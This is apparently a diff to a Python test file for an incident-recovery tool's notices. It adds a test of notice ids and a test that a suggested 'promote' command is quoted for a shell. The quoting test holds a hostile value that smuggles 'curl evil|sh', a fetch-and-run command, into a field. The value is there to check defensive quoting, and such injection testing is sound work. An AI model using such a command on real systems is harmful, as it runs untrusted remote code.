@@ -1,6 +1,7 @@
 """What people are told: the words of notices, and SNS's limits whatever the names."""
 
 import json
+import shlex
 from collections.abc import Callable
 from dataclasses import replace
 from datetime import timedelta
@@ -11,11 +12,12 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from autorecovery.config import Configuration
+from autorecovery.models.controls import Demotion
 from autorecovery.models.incident import Climb
 from autorecovery.models.notice import Fact, Link, Notice, NoticeKind
 from autorecovery.models.reason import Level, Reason
 from autorecovery.models.signal import MetricOrigin, SignalKind, Target, TargetKind
-from autorecovery.notices import compose
+from autorecovery.notices import compose, steps
 from autorecovery.notices.telling import untold_lines
 from autorecovery.notices.text import (
     SNS_SUBJECT,
@@ -70,6 +72,20 @@ def test_programs_get_facts_state_and_next_steps() -> None:
 
 
 # What every notice carries
+
+
+def test_two_notices_of_one_kind_within_a_second_have_ids_of_their_own() -> None:
+    opened, now = incident(), LATER
+    moments = (now, now, now + timedelta(milliseconds=10))
+    first, repeated, later = (compose.reminder(opened, "97", at).id for at in moments)
+    assert first == repeated != later
+
+
+def test_what_a_person_can_type_is_quoted_for_a_shell() -> None:
+    hostile = "unruled:x'; curl evil|sh; '"
+    demotion = Demotion("restart", hostile, LATER, 1, 9, 0.01, "inc-1")
+    typed = steps.after_demotion(demotion)[1].partition(": ")[2]
+    assert shlex.split(typed) == ["autorecovery", "promote", "restart", hostile]
 
 
 def test_all_notices_of_an_incident_are_one_conversation_and_a_demotion_is_another() -> None:
